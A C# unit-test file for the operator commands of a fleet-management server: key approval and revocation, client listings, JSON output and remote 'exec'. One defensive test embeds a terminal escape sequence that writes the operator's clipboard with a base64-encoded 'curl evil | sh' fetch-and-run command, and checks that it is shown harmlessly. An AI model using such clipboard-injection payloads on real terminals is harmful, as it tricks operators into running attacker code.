using System.CommandLine;
using System.Text.Json;
using EtPhoneHome.Core.Operations;
using EtPhoneHome.Core.Registry;
using EtPhoneHome.Server;
using EtPhoneHome.Server.Verbs;
using EtPhoneHome.Tests.Unit.Operations;
using Xunit;

namespace EtPhoneHome.Tests.Unit.Verbs;

public sealed class OperatorVerbsTests : IDisposable
{
    // The parts this test gives the verbs, through their composition root (Program.BuildRoot), not process-wide statics.
    private Func<EtPhoneHome.Core.DataDirectory, RegistryStores> _openRegistry = null!;
    private Func<OperationGuard, ICommandTransport> _createTransport = null!;

    private EtPhoneHome.Core.Services.OperatorServices Services(EtPhoneHome.Core.DataDirectory dir) => new(_openRegistry(dir), OperatorContext.ForSurface(Surfaces.Cli)) { CommandTransport = g => _createTransport(g) };

    private readonly FakeFleet _registry = new();
    private readonly FakeTransport _transport = new();
    private readonly StringWriter _out = new();
    private readonly StringWriter _err = new();

    public OperatorVerbsTests()
    {
        _openRegistry = _ => _registry.Stores();
        _createTransport = _ => _transport;
        _registry.AddClient("3f2a9c1e-0001", "web-01", true, 40001, "web", "prod");
        _registry.AddClient("3f2a9c1e-0002", "web-02", false, 0, "web");
        _registry.AddClient("9b1c0000-0003", "db-01", true, 40003, "db");
        _registry.Keys.Add(new KeyRecord
        {
            Fingerprint = "SHA256:pending",
            Status = KeyStatus.Pending,
            ClaimedHostname = "new-box",
            ClaimedPlatform = "linux-arm64",
            FirstSeen = new DateTimeOffset(2025, 3, 4, 5, 6, 7, TimeSpan.FromHours(2)),
            LastSeen = DateTimeOffset.UnixEpoch,
        });
    }

    public void Dispose()
    {
    }

    private async Task<int> RunAsync(params string[] args) =>
        await Program.BuildRoot(Services).Parse(args).InvokeAsync(new InvocationConfiguration { Output = _out, Error = _err });

    private List<JsonElement> JsonLines() => _out.ToString()
        .Split('\n', StringSplitOptions.RemoveEmptyEntries)
        .Select(l => JsonDocument.Parse(l).RootElement).ToList();

    private static string[] Fields(JsonElement e) => e.EnumerateObject().Select(p => p.Name).ToArray();

    [Fact]
    public async Task KeysJson_HasTheDocumentedFields()
    {
        Assert.Equal(0, await RunAsync("keys", "--pending", "--json"));

        var row = Assert.Single(JsonLines());
        Assert.Equal(["fingerprint", "status", "claimed_hostname", "claimed_platform", "uuid", "first_seen", "key_mismatch"], Fields(row));
        Assert.Equal("pending", row.GetProperty("status").GetString());
        Assert.Equal("new-box", row.GetProperty("claimed_hostname").GetString());
        Assert.Equal("2025-03-04T03:06:07Z", row.GetProperty("first_seen").GetString());
    }

    [Fact]
    public async Task Keys_Table_ListsEveryKey()
    {
        Assert.Equal(0, await RunAsync("keys"));
        var text = _out.ToString();
        Assert.Contains("FINGERPRINT", text);
        Assert.Contains("SHA256:pending", text);
        Assert.Contains("SHA256:3f2a9c1e-0001", text);
    }

    [Fact]
    public async Task ClientsJson_HasTheDocumentedFields_InUtcIso8601()
    {
        Assert.Equal(0, await RunAsync("clients", "--json", "--online"));

        var rows = JsonLines();
        Assert.Equal(["db-01", "web-01"], rows.Select(r => r.GetProperty("display_name").GetString()));
        var web = rows[1];
        foreach (var field in new[] { "uuid", "display_name", "hostname", "platform", "online", "tunnel_port", "tags", "capabilities", "key_fingerprint", "last_seen" })
        {
            Assert.True(web.TryGetProperty(field, out _), $"missing {field}");
        }

        Assert.True(web.GetProperty("online").GetBoolean());
        Assert.Equal(40001, web.GetProperty("tunnel_port").GetInt32());
        Assert.Equal(["web", "prod"], web.GetProperty("tags").EnumerateArray().Select(t => t.GetString()));
        Assert.Equal("2025-01-02T04:04:05Z", web.GetProperty("last_seen").GetString());
    }

    [Fact]
    public async Task Clients_ByTag_FiltersAndTableShowsNames()
    {
        Assert.Equal(0, await RunAsync("clients", "--tag", "web"));
        var text = _out.ToString();
        Assert.Contains("web-01", text);
        Assert.Contains("web-02", text);
        Assert.DoesNotContain("db-01", text);
    }

    [Fact]
    public async Task Approve_Unknown_Exits1_WithErrorOnStderr()
    {
        Assert.Equal(1, await RunAsync("approve", "SHA256:nope"));
        Assert.Contains("nope", _err.ToString());
        Assert.Equal("", _out.ToString());
    }

    [Fact]
    public async Task Approve_Known_SaysSo()
    {
        Assert.Equal(0, await RunAsync("approve", "SHA256:pending"));
        Assert.Contains("Approved key SHA256:pending", _out.ToString());
        Assert.Equal("approve", Assert.Single(_registry.Calls).Op);
    }

    [Fact]
    public async Task Revoke_Unknown_Exits1()
    {
        Assert.Equal(1, await RunAsync("revoke", "nobody"));
        Assert.Contains("nobody", _err.ToString());
    }

    [Fact]
    public void Revoke_ReportsDisconnectedSessions()
    {
        _registry.NextRevoke = new RevokeOutcome { Fingerprint = "SHA256:k", Uuid = "u", ClosedSessions = [FakeFleet.Session("u", 1, gatePid: 777)] };
        var signalled = new List<int>();

        Assert.Equal(0, OperatorVerbs.Revoke(_registry, "SHA256:k", _out, pid => { signalled.Add(pid); return true; }));

        Assert.Equal([777], signalled);
        Assert.Contains("closed 1 session(s), disconnected 1", _out.ToString());
    }

    [Fact]
    public async Task ExecJson_OneLinePerTarget_WithTheDocumentedFields_AndNonZeroExitWhenOneIsOffline()
    {
        _transport.Answer("web-01", FakeTransport.Exit(0, "Linux web-01\n"));

        var exit = await RunAsync("exec", "--tag", "web", "--json", "--", "uname", "-a");

        Assert.Equal(1, exit); // web-02 is offline
        var rows = JsonLines();
        Assert.Equal(2, rows.Count);
        Assert.Equal(["uuid", "display_name", "status", "exit_code", "stdout", "stderr", "duration_ms", "truncated", "error", "failure"], Fields(rows[0]));
        var offline = rows.Single(r => r.GetProperty("display_name").GetString() == "web-02");
        Assert.Equal("offline", offline.GetProperty("status").GetString());
        Assert.Equal("offline", offline.GetProperty("failure").GetString());
        Assert.Equal(JsonValueKind.Null, offline.GetProperty("exit_code").ValueKind);
        var ok = rows.Single(r => r.GetProperty("display_name").GetString() == "web-01");
        Assert.Equal("succeeded", ok.GetProperty("status").GetString());
        Assert.Equal(JsonValueKind.Null, ok.GetProperty("failure").ValueKind);
        Assert.Equal("Linux web-01\n", ok.GetProperty("stdout").GetString());
        Assert.Equal(["web-01"], _transport.Called);
        Assert.Contains("2 targets: 1 succeeded, 1 offline", _err.ToString());
    }

    [Fact]
    public async Task Exec_AllSucceeded_ExitsZero_AndJoinsTheCommand()
    {
        RunCommandParamsSpy();
        var exit = await RunAsync("exec", "--client", "db-01", "--client", "3f2a9c1e-0001", "--timeout", "7", "--", "echo", "hi there");

        Assert.Equal(0, exit);
        Assert.Contains("=== client 'db-01' (9b1c0000…): Succeeded", _out.ToString());
        Assert.Equal(["echo hi there/7", "echo hi there/7"], _seen.Order());
    }

    [Fact]
    public async Task Exec_CommandFile_RunsItsText_SoTheCommandIsNotInTheProcessList()
    {
        RunCommandParamsSpy();
        var file = Path.Combine(Path.GetTempPath(), "eph-cmd-" + Guid.NewGuid().ToString("N"));
        await File.WriteAllTextAsync(file, "mysql -psecret -e 'select 1'\n");
        try
        {
            var exit = await RunAsync("exec", "--client", "db-01", "--timeout", "7", "--command-file", file);
            Assert.Equal(0, exit);
            Assert.Equal(["mysql -psecret -e 'select 1'/7"], _seen);
        }
        finally
        {
            File.Delete(file);
        }
    }

    [Theory]
    [InlineData("exec", "--client", "db-01", "--command-file", "/nonexistent/eph-cmd", "--", "id")]
    [InlineData("exec", "--client", "db-01", "--command-file", "-", "--stdin-file", "-")]
    public async Task Exec_CommandFile_WithArgumentsToo_OrTwoReadersOfStdin_IsRefused(params string[] args)
    {
        Assert.NotEqual(0, await RunAsync(args));
        Assert.Equal(0, _transport.Calls);
        Assert.Contains("--command-file", _err.ToString());
    }

    [Fact]
    public async Task Exec_EmptyCommandFile_IsRefused()
    {
        var file = Path.Combine(Path.GetTempPath(), "eph-cmd-" + Guid.NewGuid().ToString("N"));
        await File.WriteAllTextAsync(file, "  \n");
        try
        {
            Assert.Equal(OperatorVerbs.UsageError, await RunAsync("exec", "--client", "db-01", "--command-file", file));
            Assert.Equal(0, _transport.Calls);
            Assert.Contains("holds no command", _err.ToString());
        }
        finally
        {
            File.Delete(file);
        }
    }

    private readonly System.Collections.Concurrent.ConcurrentBag<string> _seen = [];

    private void RunCommandParamsSpy()
    {
        _createTransport = _ => new SpyTransport(_seen);
    }

    private sealed class SpyTransport(System.Collections.Concurrent.ConcurrentBag<string> seen) : ICommandTransport
    {
        public Task<EtPhoneHome.Protocol.RunCommandResult> RunAsync(FleetTarget target, EtPhoneHome.Protocol.RunCommandParams p, CancellationToken ct)
        {
            seen.Add($"{p.Cmd}/{p.TimeoutS}");
            return Task.FromResult(FakeTransport.Exit(0, "hi there"));
        }
    }

    [Fact]
    public async Task Exec_UnknownClient_RunsNothing_AndExits2()
    {
        Assert.Equal(OperatorVerbs.UsageError, await RunAsync("exec", "--client", "web-01", "--client", "ghost", "--", "reboot"));
        Assert.Contains("'ghost'", _err.ToString());
        Assert.Equal(0, _transport.Calls);
    }

    [Fact]
    public async Task Exec_SeveralUnknownClients_RunsNothing_AndNamesEveryOne_WithTheSharedRule()
    {
        Assert.Equal(OperatorVerbs.UsageError, await RunAsync("exec", "--client", "web-01", "--client", "web-2", "--client", "ghost", "--", "reboot"));

        Assert.Equal(0, _transport.Calls);
        Assert.Contains("eph-server exec: " + UnknownClientsException.Describe(["web-2", "ghost"]), _err.ToString());
    }

    [Theory]
    [InlineData("exec", "--", "id")]
    [InlineData("exec", "--all", "--tag", "web", "--", "id")]
    [InlineData("exec", "--all", "--throttle", "0", "--", "id")]
    [InlineData("exec", "--all", "--timeout", "3601", "--", "id")]
    [InlineData("exec", "--all", "--max-errors", "lots", "--", "id")]
    [InlineData("exec", "--all")]
    public async Task Exec_BadInvocation_IsRefused_WithoutRunning(params string[] args)
    {
        Assert.NotEqual(0, await RunAsync(args));
        Assert.Equal(0, _transport.Calls);
        Assert.NotEqual("", _err.ToString());
    }

    [Fact]
    public async Task Exec_MaxErrors_SkipsTheRest()
    {
        var exit = await RunAsync("exec", "--all", "--max-errors", "1", "--throttle", "1", "--json", "--", "id");

        Assert.Equal(1, exit);
        var statuses = JsonLines().Select(r => r.GetProperty("status").GetString()).ToList();
        Assert.Equal(3, statuses.Count);
        Assert.Equal(["offline", "skipped", "skipped"], statuses);
    }

    [Fact]
    public void TextBlock_ShowsStatusExitStdoutAndStderr()
    {
        var block = OperatorVerbs.TextBlock(new FleetCommandResult
        {
            Uuid = "3f2a9c1e-0001",
            DisplayName = "web-01",
            Status = CommandStatus.Failed,
            ExitCode = 3,
            Stdout = "out",
            Stderr = "err\n",
            DurationMs = 12,
            Truncated = true,
        });

        Assert.Equal($"=== client 'web-01' (3f2a9c1e…): Failed (exit 3) in 12 ms, output truncated{Environment.NewLine}out{Environment.NewLine}--- stderr{Environment.NewLine}err\n", block);
    }

    [Fact]
    public void TextBlock_ShowsAClientsOutputWithoutLettingItDriveTheTerminal()
    {
        // A compromised client answers with escape sequences: OSC 52 (write the operator's clipboard), a title change,
        // a screen clear. exec shows them as text; --json keeps the exact bytes.
        var result = new FleetCommandResult
        {
            Uuid = "u",
            DisplayName = "web-01",
            Status = CommandStatus.Succeeded,
            ExitCode = 0,
            Stdout = "ok\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007\n\u001b[2J",
            Stderr = "\u001b]0;root@prod\u0007warn\n",
        };

        var block = OperatorVerbs.TextBlock(result);

        Assert.DoesNotContain('\u001b', block);
        Assert.DoesNotContain('\u0007', block);
        Assert.Contains(@"ok\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07" + "\n" + @"\x1b[2J", block, StringComparison.Ordinal);
        Assert.Contains(@"\x1b]0;root@prod\x07warn" + "\n", block, StringComparison.Ordinal);
        Assert.Contains("\\u001b]52", OperatorRows.JsonLine(ExecRow.From(result)), StringComparison.OrdinalIgnoreCase);
    }

    [Fact]
    public void ExecJson_KeepsQuotesAndAnglesReadable()
    {
        var line = OperatorRows.JsonLine(ExecRow.From(new FleetCommandResult { Uuid = "u", DisplayName = "n", Status = CommandStatus.Succeeded, Stdout = "a<b> \"q\" +" }));
        Assert.Contains("a<b> \\\"q\\\" +", line);
        Assert.DoesNotContain('\n', line);
    }

    [Fact]
    public void EveryOperatorVerb_IsRegistered_WithJsonWhereDocumented()
    {
        var root = Program.BuildRoot();
        var names = root.Subcommands.Select(c => c.Name).ToList();
        foreach (var verb in new[] { "keys", "approve", "revoke", "clients", "exec" })
        {
            Assert.Contains(verb, names);
            Assert.Contains(root.Subcommands.Single(c => c.Name == verb).Options, o => o.Name == "--data");
        }

        foreach (var verb in new[] { "keys", "clients", "exec" })
        {
            Assert.Contains(root.Subcommands.Single(c => c.Name == verb).Options, o => o.Name == "--json");
        }
    }
}
